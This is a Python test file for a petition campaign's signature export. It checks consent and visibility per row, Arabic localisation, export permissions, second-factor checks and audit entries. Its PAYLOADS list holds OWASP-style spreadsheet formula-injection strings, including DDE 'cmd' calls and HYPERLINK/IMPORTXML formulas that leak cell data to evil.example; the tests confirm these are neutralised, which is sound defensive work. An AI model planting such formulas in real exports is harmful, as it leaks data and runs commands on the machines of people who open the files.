"""Exports: consent and visibility per row, formula injection, permissions, audit."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
import sqlalchemy as sa

from campaign.exports import services
from campaign.exports.services import safe_cell
from campaign.organiser.access import PermissionDenied
from campaign.organiser.models import AuditEntry
from campaign.signatures.models import SignatureState, Visibility
from campaign.signatures.services import move

# OWASP's CSV injection payloads, and the same tricks with Arabic text, leading
# whitespace, invisible bidi marks and full-width signs.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"انقر هنا\")",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'B1'",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A2), \"//a\")",
    "   =1+1",
    "\n=1+1",
    "\u00a0@SUM(1)",
    "\u200f=HYPERLINK(\"http://evil.example\",\"أحمد\")",
    "\u200b+1",
    "＝1+1",
    "＠SUM(1)",
    "=أحمد",
    "-أحمد",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_made_inert(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["أحمد مصطفى", "Layla Haddad", "a=b", "1-2", "O'Brien", "", "ليلى-حداد"])
def test_ordinary_text_is_untouched(value):
    assert safe_cell(value) == value


def read_csv(chunks) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith(b"\xef\xbb\xbf"), "utf-8-sig, so Excel reads Arabic"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def signers(session, make_campaign, add_signature):
    """One confirmed signer of each kind, plus some that must not be exported."""
    campaign = make_campaign()
    add_signature(campaign, "سلمى خليل", "salma@example.org", visibility=Visibility.counted, opt_in=True,
                  country="EG", comment="سرّ")
    add_signature(campaign, "Layla Haddad", "layla@example.org", visibility=Visibility.initials, country="LB")
    add_signature(campaign, "أحمد مصطفى", "ahmad@example.org", visibility=Visibility.full_name, opt_in=True,
                  country="JO", comment="معًا")
    add_signature(campaign, "Pending Person", "p@example.org", verified=False)
    gone = add_signature(campaign, "Invalid Person", "i@example.org")
    move(session, gone, SignatureState.invalidated)
    session.commit()
    return campaign


def test_rows_honour_visibility_and_consent(session, signers):
    header, counted, initials, full = read_csv(services.csv_chunks(session, signers, "en"))
    assert header[0] == "Confirmed at (UTC)" and len(header) == 8
    # Counted only: a date and a country, no name, and the address only because of the opt-in.
    assert counted[1:4] == ["EG", "Egypt", ""] and counted[5] == "salma@example.org" and counted[7] == ""
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", counted[0])
    # Initials, and no address: no opt-in (and it has been erased anyway).
    assert initials[3] == "L. H." and initials[5] == ""
    assert full[3] == "أحمد مصطفى" and full[5] == "ahmad@example.org" and full[7] == "معًا"


def test_an_opted_in_address_that_was_erased_is_not_exported(session, signers):
    from campaign.signatures.models import Signature

    signature = session.scalar(sa.select(Signature).where(Signature.name == "أحمد مصطفى"))
    signature.email = None
    session.commit()
    table = read_csv(services.csv_chunks(session, signers, "en"))
    assert all("ahmad@" not in cell for row in table for cell in row)


def test_arabic_export_has_arabic_headers_and_country_names(session, signers):
    header, counted, *_ = read_csv(services.csv_chunks(session, signers, "ar"))
    assert header[3] == "الاسم"
    assert counted[2] == "مصر"


def test_injected_names_and_comments_are_inert_in_csv_and_xlsx(session, make_campaign, add_signature):
    campaign = make_campaign()
    for i, payload in enumerate(PAYLOADS):
        add_signature(campaign, payload[:120], f"x{i}@example.org", visibility=Visibility.full_name,
                      comment=payload, opt_in=True)
    session.commit()
    header, *table = read_csv(services.csv_chunks(session, campaign, "en"))
    names = [row[3] for row in table]
    for payload, name in zip(PAYLOADS, names):
        stripped = payload.strip()  # the form strips names; the leading mark must still be caught
        assert name.startswith("'") or not stripped, (payload, name)
    assert all(row[7].startswith("'") for row in table)

    spool = io.BytesIO()
    assert services.write_xlsx(session, campaign, "ar", spool) == len(PAYLOADS)
    with zipfile.ZipFile(spool) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "no cell is a formula"
    assert 'rightToLeft="1"' in sheet


def test_xlsx_in_english_is_left_to_right_and_has_every_signer(session, signers):
    spool = io.BytesIO()
    assert services.write_xlsx(session, signers, "en", spool) == 3
    with zipfile.ZipFile(spool) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "rightToLeft" not in sheet
    assert "L. H." in sheet and "Pending Person" not in sheet and "Invalid Person" not in sheet


def test_export_permission_and_audit(session, signers, make_organiser):
    owner = make_organiser("owner")
    editor = make_organiser("editor")
    signers.organisation_id = owner.memberships[0].organisation_id
    session.commit()
    with pytest.raises(PermissionDenied):
        services.record_export(session, editor, signers, "csv")
    assert services.record_export(session, owner, signers, "csv") == 3
    entry = session.scalars(sa.select(AuditEntry)).one()
    assert (entry.action, entry.detail, entry.campaign_id) == ("export.csv", {"format": "csv", "rows": 3}, signers.id)


# --- Web ---------------------------------------------------------------------------

@pytest.fixture
def owned(session, signers, make_organiser):
    owner = make_organiser("owner")
    signers.organisation_id = owner.memberships[0].organisation_id
    session.commit()
    return owner, signers


@pytest.mark.parametrize("lang", ["ar", "en"])
def test_owner_downloads_csv_streamed(client, session, owned, lang, login):
    owner, campaign = owned
    login(client, owner)
    response = client.get(f"/{lang}/manage/campaigns/{campaign.id}/export.csv", buffered=False)
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(f'attachment; filename="{campaign.slug}-signatures-')
    assert response.headers["Cache-Control"] == "no-store"
    table = read_csv(response.response)
    assert len(table) == 4 and table[0][3] == ("الاسم" if lang == "ar" else "Name")
    response.close()
    entry = session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.csv")).one()
    assert entry.organiser_id == owner.id and entry.detail["rows"] == 3


@pytest.mark.parametrize("lang", ["ar", "en"])
def test_owner_downloads_xlsx(client, session, owned, lang, login):
    owner, campaign = owned
    login(client, owner)
    response = client.get(f"/{lang}/manage/campaigns/{campaign.id}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == services_xlsx_type()
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert ('rightToLeft="1"' in sheet) == (lang == "ar")
    assert session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.xlsx")).one().detail["rows"] == 3


def services_xlsx_type() -> str:
    from campaign.exports.manage import XLSX_TYPE

    return XLSX_TYPE


def test_export_needs_a_fresh_second_factor(client, session, owned, login):
    owner, campaign = owned
    login(client, owner, fresh_two_factor=False)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/en/manage/campaigns/{campaign.id}/export.{fmt}")
        assert response.status_code == 302
        assert "/en/manage/reauth" in response.headers["Location"]
    assert session.scalars(sa.select(AuditEntry)).all() == [], "nothing left, nothing logged"


def test_editors_and_other_organisations_cannot_export(client, session, owned, make_organiser, login):
    owner, campaign = owned
    editor = make_organiser("editor")  # same organisation, but editors may not export
    stranger = make_organiser("owner", "Another Group")
    for organiser in (editor, stranger):
        login(client, organiser)
        for fmt in ("csv", "xlsx"):
            assert client.get(f"/en/manage/campaigns/{campaign.id}/export.{fmt}").status_code == 403
    assert client.get("/en/manage/campaigns/999999/export.csv").status_code == 404
    assert session.scalars(sa.select(AuditEntry)).all() == []
